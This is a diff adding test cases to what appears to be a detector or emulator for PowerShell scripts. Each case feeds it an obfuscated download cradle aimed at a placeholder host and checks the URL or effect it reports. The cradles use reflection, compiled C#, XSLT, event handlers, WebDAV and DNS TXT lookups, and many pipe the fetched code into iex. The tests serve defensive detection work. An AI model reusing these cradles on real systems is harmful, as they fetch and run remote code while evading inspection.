@@ -272,6 +272,14 @@ def test_functions_nobody_calls_are_left_alone_where_the_script_does_something()
         ("$c=New-Object Net.Sockets.TcpClient 'a.example.test',443;$s=New-Object Net.Security.SslStream($c.GetStream());$w=New-Object IO.StreamWriter $s;$w.WriteLine('GET /1 HTTP/1.1');$w.Flush()", "https://a.example.test/1"),
         (r"Copy-Item \\a.example.test@SSL\DavWWWRoot\x.exe C:\x.exe", "https://a.example.test/x.exe"),
         (r"gc \\a.example.test@8080\dav\x.ps1 -raw | iex", "http://a.example.test:8080/dav/x.ps1"),
+        ("$w=New-Object Net.WebClient;($w.PSObject.Methods|?{$_.Name -clike 'D*g'}).Invoke('http://a.example.test/1')|iex", "http://a.example.test/1"),
+        ("$s=[Net.WebClient].InvokeMember('',[Reflection.BindingFlags]::CreateInstance,$null,$null,$null);$s.DownloadString('http://a.example.test/1')", "http://a.example.test/1"),
+        ("$t=([AppDomain]::CurrentDomain.GetAssemblies()|?{$_.FullName -like 'System,*'}).GetType('System.Net.WebClient');[Activator]::CreateInstance($t).DownloadString('http://a.example.test/1')", "http://a.example.test/1"),
+        ("$w=New-Object Net.WebClient;Register-ObjectEvent $w DownloadStringCompleted -Action {iex $EventArgs.Result};$w.DownloadStringAsync([uri]'http://a.example.test/1')", "http://a.example.test/1"),
+        ("(New-Object Xml.Xsl.XslCompiledTransform).Load('http://a.example.test/1')", "http://a.example.test/1"),
+        ("Add-Type 'using System.Net;public class K{public static string G(string u){return new WebClient().DownloadString(u);}}';iex ([K]::G('http://a.example.test/1'))", "http://a.example.test/1"),
+        ("Add-Type 'public class K{public void G(){new System.Net.WebClient().DownloadFile(\"http://a.example.test/1\",\"C:\\\\x.exe\");}}';(New-Object K).G()", "http://a.example.test/1"),
+        ("Add-Type 'public class K : System.Net.WebClient { }';(New-Object K).DownloadString('http://a.example.test/1')", "http://a.example.test/1"),
     ],
 )  # fmt: skip
 def test_downloads_by_hand(text, url):
@@ -293,3 +301,20 @@ def test_a_share_of_the_own_network_is_no_download():
 def test_programs_see_the_environment_of_the_script(text):
     started = next(child.data.decode() for child in run(text).children if child.kind == "script.cmd")
     assert started.replace('"', "").endswith("echo INERT")
+
+
+@pytest.mark.parametrize(
+    ("text", "evaluated"),
+    [
+        (r"iex (gc \\files.example.test\share\a.ps1 -Raw)", r"<Unknown: content of file \\files.example.test\share\a.ps1>"),
+        ("iex ((certutil -ping http://a.example.test/ | select -Skip 2 | select -SkipLast 1) -join '')", "<Unknown: output of certutil>"),
+        ("&(nslookup -querytype=txt a.example.test | findstr '\"')", "<Unknown: output of nslookup>"),
+    ],
+)
+def test_what_comes_from_elsewhere_is_run(text, evaluated):
+    assert run(text).values("effect.eval") == [evaluated]
+
+
+def test_programs_started_by_compiled_code():
+    code = r'using System.Diagnostics; public class K { public static void G() { Process.Start("cmd", "/c echo C:\\a"); } }'
+    assert run(f"Add-Type -TypeDefinition '{code}'; [K]::G()").values("effect.run") == ["K::G()", r"cmd /c echo C:\a"]
